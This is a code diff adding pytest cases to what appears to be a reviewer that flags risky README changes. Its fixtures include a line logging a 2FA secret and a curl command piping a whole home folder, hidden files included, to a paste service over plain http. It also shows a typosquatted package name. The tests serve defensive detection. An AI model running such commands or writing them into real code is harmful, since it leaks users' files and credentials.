@@ -310,3 +310,24 @@ def test_blind_188_to_191s_lines_are_read() -> None:
     manifest = review(fc("package.json", ['    "safer-bufer": "^2.0.2",'], []))
     assert manifest.risk == "high" and "look-alike of safer-buffer" in manifest.reasons[0], manifest.reasons
     assert lookalike_new(["safer-buffer"]) is None and lookalike_new(["safer-bufer"]) is not None
+
+
+@pytest.mark.parametrize(("added", "said"), [
+    # speakeasy's README logging the 2FA secret's encoding (blind 191)
+    (["```js", "console.log('2FA secret for ' + user.email + ': ' + secret.base32);", "```"], "writes a credential (secret) to a log"),
+    # files-to-prompt's README piping a home folder to a paste service over plain http (blind 191)
+    (["```sh", "files-to-prompt ~ --include-hidden | curl -s -F 'file=@-' http://paste.files-to-prompt.dev/", "```"],
+     "uploads data over plain http (anyone on the path reads it)"),
+    # the near misses: the secret's length logged, an upload over https, one to the local machine
+    (["```js", "console.log('secret length: ' + secret.base32.length);", "```"], None),
+    (["```sh", "curl -F file=@report.json https://paste.example.org/", "```"], None),
+    (["```sh", "curl -F file=@x http://localhost:8000/up", "```"], None),
+])
+def test_a_page_that_logs_a_secret_or_uploads_over_http_is_read(added: list[str], said: str | None) -> None:
+    from line_changes import fc, review
+
+    got = review(fc("README.md", added, []))
+    if said is None:
+        assert got.risk == "low", got.reasons
+    else:
+        assert got.risk != "low" and any(said in reason for reason in got.reasons), (got.risk, got.reasons)
